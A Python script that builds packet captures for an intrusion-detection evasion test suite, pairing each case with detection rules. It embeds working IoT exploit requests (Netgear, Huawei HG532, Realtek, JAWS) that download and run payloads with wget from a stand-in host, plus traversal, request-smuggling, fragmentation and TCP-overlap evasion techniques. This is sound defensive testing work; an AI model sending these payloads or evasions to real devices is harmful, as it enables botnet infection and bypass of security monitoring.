"""Write the evasion conformance cases (one folder per case, verify format).

    .venv/bin/python -m tests.evasion.make_cases        # rewrites tests/evasion/cases/

Each case is a complete, realistic conversation built with scapy (handshake,
server ACKs, response, FIN exchange) in the documentation ranges only
(192.0.2.0/24 LAN, 198.51.100.0/24 and 203.0.113.0/24 "internet"), with
fixed timestamps, sequence numbers and IP ids, so the output is byte-for-byte
reproducible. `CASES` is also what the inline test replays (it imports the
payloads from here), so offline and inline evasion stay one list.

What each family exercises (expected results are in each test.yaml):

* uri-split-N: the exploit request split over N TCP segments.
* out-of-order: the same segments sent last-first.
* overlap-attack-first / overlap-benign-first: a retransmission overlapping
  earlier bytes with conflicting data. Offline the first copy wins, as in
  Suricata's default (BSD) policy: attack-first alerts; benign-first does
  not alert on the exploit (the stream holds the benign bytes, which is also
  what a first-wins receiver gets) but logs
  stream.reassembly_overlap_different_data. Inline, the box rewrites the
  second copy to the first, so the receiver can never see bytes detection did
  not.
* ip-fragments / ip-fragments-overlap-*: the request packet cut into 64-byte
  IPv4 fragments (ips/defrag.py reassembles, first data wins, and flags
  ipv4.frag_overlap).
* traversal-*: libhtp decodes %XX once. Plain "../" and "%2e%2e/" both
  normalise to "/etc/passwd" (sid 2001); "%252e%252e/" decodes to a literal
  "%2e%2e/" and is caught by the double-encoding rule (sid 2002) instead.
* port-*: HTTP detected by content on 8080, 37215 (Huawei HG532
  CVE-2017-17215) and 52869 (Realtek SDK miniigd CVE-2014-8361).
* tls-1byte-records: a ClientHello cut into 1-byte TLS records (tls.sni).
* after-http09-request: "GET /index.html" without a protocol, then the
  exploit request: read as two requests (libhtp), not one with a header.
* smuggle-*, chunk-*, h2c-*: requests a device's server may frame or read
  otherwise (two Content-Lengths, Content-Length with chunked, "xchunked",
  "+0", "none", a chunk size "0x1", a CR inside the request line, cleartext
  HTTP/2), hiding the shell request from http.uri; each ambiguity is an
  event a rule drops on (http.request_smuggling, http.http2_cleartext).
  Where servers agree (17-zero chunk sizes, long chunk extensions) the
  parser reads as they do and the shell request's own rule fires.
"""
from __future__ import annotations

import struct
import sys
from dataclasses import dataclass, field
from pathlib import Path

CASES_DIR = Path(__file__).resolve().parent / "cases"

CLIENT = "192.0.2.10"
SERVER = "203.0.113.80"
CLIENT_MAC = "02:00:00:00:00:0a"
SERVER_MAC = "02:00:00:00:00:50"
CLIENT_ISN = 100_000
SERVER_ISN = 900_000
START_TIME = 1_700_000_000.0

NETGEAR = (b"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;"
           b"wget+http://198.51.100.66/Mozi.m+-O+/tmp/netgear HTTP/1.1\r\n"
           b"Host: 192.0.2.1\r\nUser-Agent: Hello, world\r\nAccept: */*\r\n\r\n")
NETGEAR_BENIGN = NETGEAR.replace(b"todo=syscmd", b"todo=status")
RESPONSE = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Type: text/plain\r\n\r\nok"

NETGEAR_RULES = (
    'alert http any any -> any any (msg:"EVASION Netgear setup.cgi syscmd (http.uri)"; '
    'flow:established,to_server; http.uri; content:"/setup.cgi"; content:"todo=syscmd"; '
    'sid:1000001; rev:1;)\n'
    'alert tcp any any -> any any (msg:"EVASION Netgear setup.cgi syscmd (raw stream)"; '
    'flow:established,to_server; content:"todo=syscmd"; sid:1000002; rev:1;)\n')

TRAVERSAL_RULES = (
    'alert http any any -> any any (msg:"EVASION traversal to /etc/passwd (normalised uri)"; '
    'flow:established,to_server; http.uri; content:"/etc/passwd"; depth:11; sid:2001; rev:1;)\n'
    'alert http any any -> any any (msg:"EVASION double-encoded dot segment"; '
    'flow:established,to_server; http.uri; content:"%2e%2e/"; nocase; sid:2002; rev:1;)\n')

HUAWEI = (b"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: 192.0.2.1:37215\r\n"
          b"Content-Length: 310\r\nAuthorization: Digest username=\"dslf-config\"\r\n\r\n")
HUAWEI_BODY = (b'<?xml version="1.0" ?><s:Envelope><s:Body><u:Upgrade xmlns:u='
               b'"urn:schemas-upnp-org:service:WANPPPConnection:1"><NewStatusURL>'
               b'$(/bin/busybox wget -g 198.51.100.66 -l /tmp/.x -r /mips; /tmp/.x huawei)'
               b'</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL>'
               b'</u:Upgrade></s:Body></s:Envelope>')
HUAWEI = HUAWEI.replace(b"310", str(len(HUAWEI_BODY)).encode()) + HUAWEI_BODY
REALTEK_BODY = (b'<?xml version="1.0" ?><s:Envelope><s:Body><u:AddPortMapping>'
                b'<NewInternalClient>`cd /var; wget http://198.51.100.66/r.sh; sh r.sh`'
                b'</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>')
REALTEK = (b"POST /picsdesc.xml HTTP/1.1\r\nHost: 192.0.2.1:52869\r\n"
           b"SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n"
           b"Content-Length: " + str(len(REALTEK_BODY)).encode() + b"\r\n\r\n" + REALTEK_BODY)
SHELL_8080 = (b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.66/jaws;sh+/tmp/jaws HTTP/1.1\r\n"
              b"Host: 192.0.2.1:8080\r\nUser-Agent: Hello, World\r\n\r\n")
PORT_RULES = (
    'alert http any any -> any any (msg:"EVASION Huawei HG532 DeviceUpgrade RCE"; '
    'flow:established,to_server; http.method; content:"POST"; http.uri; '
    'content:"/ctrlt/DeviceUpgrade_1"; http.request_body; content:"NewStatusURL"; '
    'content:"wget"; sid:3001; rev:1;)\n'
    'alert http any any -> any any (msg:"EVASION Realtek miniigd AddPortMapping RCE"; '
    'flow:established,to_server; http.uri; content:"/picsdesc.xml"; http.request_body; '
    'content:"NewInternalClient"; content:"wget"; sid:3002; rev:1;)\n'
    'alert http any any -> any any (msg:"EVASION JAWS/MVPower shell command"; '
    'flow:established,to_server; http.uri; content:"/shell?"; content:"wget"; sid:3003; rev:1;)\n')

# HTTP framing: a request whose body or syntax a device's server may read
# otherwise than libhtp hides the JAWS shell request from http.uri. Where
# no reading is safe the parser flags the request (http.request_smuggling,
# http.http2_cleartext) and a shipped virtual patch drops it; where servers
# agree on one reading, the parser takes it and the shell request's own
# rule (sid 3003) fires. The test rules stand in for the shipped patches.
SMUGGLED = SHELL_8080.replace(b"192.0.2.1:8080", b"192.0.2.1:8090")
SMUGGLE_RULES = (
    'alert http any any -> any any (msg:"EVASION request a server may read otherwise"; '
    'flow:established,to_server; app-layer-event:http.request_smuggling; sid:5101; rev:1;)\n'
    'alert http any any -> any any (msg:"EVASION duplicate Content-Length"; '
    'flow:established,to_server; app-layer-event:http.duplicate_content_length_field_in_request; '
    'sid:5102; rev:1;)\n'
    'alert http any any -> any any (msg:"EVASION Content-Length without digits"; '
    'flow:established,to_server; app-layer-event:http.invalid_content_length_field_in_request; '
    'sid:5103; rev:1;)\n'
    'alert http any any -> any any (msg:"EVASION cleartext HTTP/2"; '
    'flow:established,to_server; app-layer-event:http.http2_cleartext; sid:5104; rev:1;)\n')


def smuggling(length_headers: bytes, body: bytes) -> bytes:
    return (b"POST /index.html HTTP/1.1\r\nHost: 192.0.2.1:8090\r\n" + length_headers
            + b"Content-Type: application/x-www-form-urlencoded\r\n\r\n" + body)


def _h2c_preface(path: bytes) -> bytes:
    """The HTTP/2 prior-knowledge preface, an empty SETTINGS frame and a
    HEADERS frame for GET `path` (HPACK: :method GET, :scheme http, :path
    as a literal without indexing)."""
    block = b"\x82\x86\x04" + bytes([len(path)]) + path
    frame = len(block).to_bytes(3, "big") + b"\x01\x05" + (1).to_bytes(4, "big") + block
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00" + frame


SHELL_PATH = SMUGGLED.split(b" ")[1]
CHUNKED = b"Transfer-Encoding: chunked\r\n"
HTTP_FRAMING = {
    # name: (request, sid -> expected count, what a server that disagrees
    #        reads, the shipped virtual patch that drops it or None)
    "smuggle-cl-cl": (
        smuggling(b"Content-Length: %d\r\nContent-Length: 0\r\n" % len(SMUGGLED), SMUGGLED),
        {5101: 1, 5102: 1, 5103: 0, 3003: 0},
        "two Content-Length headers: the first (libhtp) makes the shell request a body, "
        "the last (many embedded servers) makes it a request", 9100118),
    "smuggle-cl-te": (
        smuggling(b"Content-Length: 4\r\n" + CHUNKED,
                  b"%x\r\n" % len(SMUGGLED) + SMUGGLED + b"\r\n0\r\n\r\n"),
        {5101: 1, 5102: 0, 5103: 0, 3003: 0},
        "Content-Length beside chunked: a server without chunked support reads 4 bytes "
        "and then the shell request", 9100118),
    "smuggle-te-obfuscated": (
        smuggling(b"Transfer-Encoding: xchunked\r\n",
                  b"%x\r\n" % len(SMUGGLED) + SMUGGLED + b"\r\n0\r\n\r\n"),
        {5101: 1, 5102: 0, 5103: 0, 3003: 0},
        "Transfer-Encoding xchunked: chunked for libhtp, no body for a server that wants "
        "exactly chunked, which then reads the shell request", 9100118),
    "smuggle-cl-junk": (
        smuggling(b"Content-Length: +0\r\n", SMUGGLED),
        {5101: 1, 5102: 0, 5103: 0, 3003: 1},
        "Content-Length +0: read as 0, as libhtp does; the shell request after it is "
        "parsed and inspected, and the odd length flagged", 9100118),
    "smuggle-cl-invalid": (
        smuggling(b"Content-Length: none\r\n", SMUGGLED),
        {5101: 1, 5102: 0, 5103: 1, 3003: 1},
        "Content-Length without digits: libhtp stops parsing the connection; here the "
        "request is taken as bodiless and what follows is still parsed and inspected", 9100118),
    "smuggle-chunk-size-junk": (
        smuggling(CHUNKED, b"0x1\r\n\r\n" + SMUGGLED),
        {5101: 1, 5102: 0, 5103: 0, 3003: 1},
        "chunk size 0x1: the last chunk to libhtp (digits up to the x), one byte or an "
        "error to a server", 9100118),
    "smuggle-bare-cr": (
        SMUGGLED.replace(b"/shell?", b"/she\rll?", 1),
        {5101: 1, 5102: 0, 5103: 0, 3003: 0},
        "a CR inside the request line: busybox httpd deletes it and runs /shell, "
        "mini_httpd ends the line there, libhtp keeps it in the URI", 9100118),
    "chunk-size-leading-zeros": (
        smuggling(CHUNKED, b"0" * 17 + b"\r\n\r\n" + SMUGGLED),
        {5101: 0, 3003: 1},
        "a last-chunk size of 17 zeros (nginx and lighttpd take it): the shell request "
        "after the body is a request (the parser used to give up at 16 digits)", None),
    "chunk-extension-long": (
        smuggling(CHUNKED, b"0;" + b"a" * 2000 + b"\r\n\r\n" + SMUGGLED),
        {5101: 0, 3003: 1},
        "a 2,000-byte chunk extension (nginx takes any length): the shell request after "
        "the body is a request (the parser used to give up past 1,024 bytes)", None),
    "h2c-preface": (
        _h2c_preface(SHELL_PATH),
        {5104: 1, 3003: 0},
        "cleartext HTTP/2 with prior knowledge (lighttpd runs it): the shell request is "
        "in a HEADERS frame no http.uri rule reads; the preface is flagged", 9100119),
    "h2c-upgrade": (
        b"GET / HTTP/1.1\r\nHost: 192.0.2.1:8090\r\nConnection: Upgrade, HTTP2-Settings\r\n"
        b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n\r\n",
        {5104: 1, 3003: 0},
        "an upgrade to cleartext HTTP/2 (lighttpd answers 101): the requests after it are "
        "HTTP/2 frames; the upgrade is flagged", 9100119),
}

SNI = b"c2.evil.example"
TLS_RULES = ('alert tls any any -> any any (msg:"EVASION SNI of a known C2 domain"; '
             'tls.sni; content:"c2.evil.example"; sid:4001; rev:1;)\n')


@dataclass
class Case:
    """One evasion case: what the attacker sends and what must be seen."""
    name: str
    rules: str
    server_port: int
    client_segments: list[tuple[int, bytes]] = field(default_factory=list)
    """(stream offset, bytes) in the order they are sent."""
    payload: bytes = b""
    """The complete client byte stream the exploit needs (for the inline test)."""
    expect_alerts: dict[int, int] = field(default_factory=dict)
    """sid -> count."""
    expect_anomalies: tuple[str, ...] = ()
    fragment: str | None = None
    """None, "plain", "overlap-attack-first" or "overlap-benign-first"."""
    args: tuple[str, ...] = ("-k none",)
    comment: str = ""


def split(data: bytes, pieces: int) -> list[tuple[int, bytes]]:
    size = -(-len(data) // pieces)
    return [(offset, data[offset:offset + size]) for offset in range(0, len(data), size)]


def client_hello(server_name: bytes) -> bytes:
    """A minimal TLS 1.2 ClientHello handshake message with one SNI."""
    sni = struct.pack(">BH", 0, len(server_name)) + server_name
    sni_list = struct.pack(">H", len(sni)) + sni
    extensions = struct.pack(">HH", 0, len(sni_list)) + sni_list
    extensions += struct.pack(">HHH", 10, 4, 2) + b"\x00\x1d"          # supported groups
    body = (b"\x03\x03" + bytes(range(32)) + b"\x00"                  # version, random, session
            + struct.pack(">H", 4) + b"\xc0\x2f\x00\x9c"              # cipher suites
            + b"\x01\x00"                                              # compression: null
            + struct.pack(">H", len(extensions)) + extensions)
    return b"\x01" + len(body).to_bytes(3, "big") + body


def one_byte_records(handshake: bytes) -> bytes:
    return b"".join(b"\x16\x03\x01\x00\x01" + handshake[i:i + 1] for i in range(len(handshake)))


def build_cases() -> list[Case]:
    cases = []
    for pieces in (2, 5, 24):
        cases.append(Case(f"uri-split-{pieces}", NETGEAR_RULES, 80, split(NETGEAR, pieces),
                          NETGEAR, {1000001: 1, 1000002: 1},
                          comment=f"request split over {pieces} segments"))
    cases.append(Case("out-of-order", NETGEAR_RULES, 80, list(reversed(split(NETGEAR, 6))),
                      NETGEAR, {1000001: 1, 1000002: 1},
                      comment="six segments sent last first"))
    where = NETGEAR.index(b"todo=syscmd")
    cases.append(Case(
        "overlap-attack-first", NETGEAR_RULES, 80,
        [(0, NETGEAR[:where + 20]), (where - 4, NETGEAR_BENIGN[where - 4:where + 30]),
         (where + 20, NETGEAR[where + 20:])],
        NETGEAR, {1000001: 1, 1000002: 1}, ("stream.reassembly_overlap_different_data",),
        comment="retransmission rewrites todo=syscmd to todo=status; first data wins"))
    cases.append(Case(
        "overlap-benign-first", NETGEAR_RULES, 80,
        [(0, NETGEAR_BENIGN[:where + 20]), (where - 4, NETGEAR[where - 4:where + 30]),
         (where + 20, NETGEAR[where + 20:])],
        NETGEAR_BENIGN, {1000001: 0, 1000002: 0}, ("stream.reassembly_overlap_different_data",),
        comment="benign first, then the attack bytes overlap it: the stream (and a "
                "first-wins receiver) holds todo=status, so the exploit rules must not "
                "fire; the overlap is logged as an anomaly"))
    cases.append(Case("ip-fragments", NETGEAR_RULES, 80, [(0, NETGEAR)], NETGEAR,
                      {1000001: 1, 1000002: 1}, fragment="plain",
                      comment="request packet in 64-byte IPv4 fragments, sent in reverse"))
    cases.append(Case("ip-fragments-overlap-attack-first", NETGEAR_RULES, 80, [(0, NETGEAR)],
                      NETGEAR, {1000001: 1, 1000002: 1}, ("ipv4.frag_overlap",),
                      fragment="overlap-attack-first",
                      comment="an extra fragment overwrites todo=syscmd; first data wins"))
    cases.append(Case("ip-fragments-overlap-benign-first", NETGEAR_RULES, 80, [(0, NETGEAR)],
                      NETGEAR_BENIGN, {1000001: 0, 1000002: 0}, ("ipv4.frag_overlap",),
                      fragment="overlap-benign-first",
                      comment="a benign fragment arrives before the attack one: first "
                              "data wins, no exploit alert, overlap flagged"))
    for name, target, sids in (
            ("traversal-plain", b"/cgi-bin/../../../../etc/passwd", {2001: 1, 2002: 0}),
            ("traversal-percent", b"/cgi-bin/%2e%2e/%2E%2E/%2e%2e/etc/passwd", {2001: 1, 2002: 0}),
            ("traversal-double", b"/cgi-bin/%252e%252e/%252e%252e/etc/passwd", {2001: 0, 2002: 1})):
        request = b"GET " + target + b" HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n"
        cases.append(Case(name, TRAVERSAL_RULES, 80, split(request, 3), request, sids,
                          comment="URI decoded once, as libhtp"))
    for port, request, sid in ((8080, SHELL_8080, 3003), (37215, HUAWEI, 3001),
                               (52869, REALTEK, 3002)):
        cases.append(Case(f"port-{port}", PORT_RULES, port, split(request, 2), request,
                          {3001: 0, 3002: 0, 3003: 0} | {sid: 1},
                          comment=f"HTTP exploit on port {port}"))
    for name, (request, sids, comment, _patch) in HTTP_FRAMING.items():
        cases.append(Case(name, PORT_RULES + SMUGGLE_RULES, 8090, split(request, 2), request,
                          {3001: 0, 3002: 0} | sids, comment=comment))
    http09 = b"GET /index.html\r\n" + SHELL_8080
    cases.append(Case("after-http09-request", PORT_RULES, 8080, split(http09, 2), http09,
                      {3001: 0, 3002: 0, 3003: 1},
                      comment="an HTTP/0.9 request line (no protocol) before the exploit: "
                              "it has no headers, so the exploit line is the next request, "
                              "not a header of the first"))
    records = one_byte_records(client_hello(SNI))
    cases.append(Case("tls-1byte-records", TLS_RULES, 443, split(records, 3), records,
                      {4001: 1}, comment="ClientHello in 1-byte TLS records"))
    return cases


# -- packets ---------------------------------------------------------------------

class _Clock:
    def __init__(self) -> None:
        self.now = START_TIME

    def tick(self) -> float:
        self.now += 0.001
        return self.now


def _frame(src, dst, sport, dport, flags, seq, ack, payload, clock, ip_id):
    from scapy.layers.inet import IP, TCP
    from scapy.layers.l2 import Ether
    to_server = src == CLIENT
    frame = (Ether(src=CLIENT_MAC if to_server else SERVER_MAC,
                   dst=SERVER_MAC if to_server else CLIENT_MAC)
             / IP(src=src, dst=dst, id=ip_id, flags="DF" if payload is None else 0)
             / TCP(sport=sport, dport=dport, flags=flags, seq=seq & 0xFFFFFFFF,
                   ack=ack & 0xFFFFFFFF, window=64240))
    if payload:
        frame = frame / payload
    frame = frame.__class__(bytes(frame))     # fix lengths and checksums now
    frame.time = clock.tick()
    return frame


def _fragments(frame, mode: str, benign_frame, clock):
    """Cut the IP payload of `frame` into 8-byte fragments (reverse order),
    with an extra overlapping fragment for the overlap modes."""
    from scapy.layers.inet import IP
    from scapy.layers.l2 import Ether
    ip = frame[IP]
    raw = bytes(ip.payload)
    benign = bytes(benign_frame[IP].payload)
    pieces = []
    unit = 64
    for offset in range(0, len(raw), unit):
        chunk = raw[offset:offset + unit]
        pieces.append((offset, chunk, offset + unit < len(raw)))
    # the critical bytes sit in one fragment; the conflicting copy covers it
    where = raw.index(b"todo=")
    first = where // 8 * 8
    overlap = (first, benign[first:first + 24], True)
    attack = (first, raw[first:first + 24], True)
    ordered = list(reversed(pieces))
    if mode == "overlap-attack-first":
        ordered = [attack] + ordered + [overlap]
    elif mode == "overlap-benign-first":
        ordered = [overlap] + ordered
    out = []
    for offset, chunk, more in ordered:
        header = IP(src=ip.src, dst=ip.dst, id=ip.id, proto=6, ttl=ip.ttl,
                    flags="MF" if more else 0, frag=offset // 8)
        piece = Ether(src=frame.src, dst=frame.dst) / header / chunk
        piece = piece.__class__(bytes(piece))
        piece.time = clock.tick()
        out.append(piece)
    return out


def packets_for(case: Case) -> list:
    clock = _Clock()
    ip_id = [1000]

    def nid():
        ip_id[0] += 1
        return ip_id[0]

    cport, sport = 40000 + len(case.name), case.server_port
    c_next = CLIENT_ISN + 1
    s_next = SERVER_ISN + 1
    frames = [
        _frame(CLIENT, SERVER, cport, sport, "S", CLIENT_ISN, 0, None, clock, nid()),
        _frame(SERVER, CLIENT, sport, cport, "SA", SERVER_ISN, c_next, None, clock, nid()),
        _frame(CLIENT, SERVER, cport, sport, "A", c_next, s_next, None, clock, nid()),
    ]
    received = set()
    for offset, data in case.client_segments:
        seg = _frame(CLIENT, SERVER, cport, sport, "PA", c_next + offset, s_next, data, clock, nid())
        if case.fragment:
            benign = _frame(CLIENT, SERVER, cport, sport, "PA", c_next + offset, s_next,
                            NETGEAR_BENIGN, clock, 0)
            clock.now -= 0.001
            frames.extend(_fragments(seg, case.fragment, benign, clock))
        else:
            frames.append(seg)
        received.update(range(offset, offset + len(data)))
        contiguous = 0
        while contiguous in received:
            contiguous += 1
        # The server acknowledges what it holds in order (dup ACKs on holes).
        frames.append(_frame(SERVER, CLIENT, sport, cport, "A", s_next, c_next + contiguous,
                             None, clock, nid()))
    total = max(o + len(d) for o, d in case.client_segments)
    c_end = c_next + total
    reply = RESPONSE if case.server_port != 443 else b"\x15\x03\x03\x00\x02\x02\x28"
    frames += [
        _frame(SERVER, CLIENT, sport, cport, "PA", s_next, c_end, reply, clock, nid()),
        _frame(CLIENT, SERVER, cport, sport, "A", c_end, s_next + len(reply), None, clock, nid()),
        _frame(CLIENT, SERVER, cport, sport, "FA", c_end, s_next + len(reply), None, clock, nid()),
        _frame(SERVER, CLIENT, sport, cport, "FA", s_next + len(reply), c_end + 1, None, clock, nid()),
        _frame(CLIENT, SERVER, cport, sport, "A", c_end + 1, s_next + len(reply) + 1, None, clock, nid()),
    ]
    return frames


def test_yaml(case: Case) -> str:
    lines = [f"# {case.comment}" if case.comment else "# evasion case",
             "# generated by tests/evasion/make_cases.py -- do not edit", ""]
    if case.args:
        lines.append("args:")
        lines += [f"  - {arg}" for arg in case.args]
        lines.append("")
    lines.append("checks:")
    for sid, count in sorted(case.expect_alerts.items()):
        lines += ["  - filter:", f"      count: {count}", "      match:",
                  "        event_type: alert", f"        alert.signature_id: {sid}"]
    for event in case.expect_anomalies:
        lines += ["  - filter:", "      min-count: 1", "      match:",
                  "        event_type: anomaly", f"        anomaly.event: {event}"]
    return "\n".join(lines) + "\n"


def write_cases(directory: Path = CASES_DIR) -> list[Path]:
    from scapy.utils import wrpcap
    written = []
    for case in build_cases():
        folder = directory / case.name
        folder.mkdir(parents=True, exist_ok=True)
        wrpcap(str(folder / "input.pcap"), packets_for(case))
        (folder / "test.rules").write_text(case.rules)
        (folder / "test.yaml").write_text(test_yaml(case))
        written.append(folder)
    return written


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else CASES_DIR
    for path in write_cases(target):
        print(path)
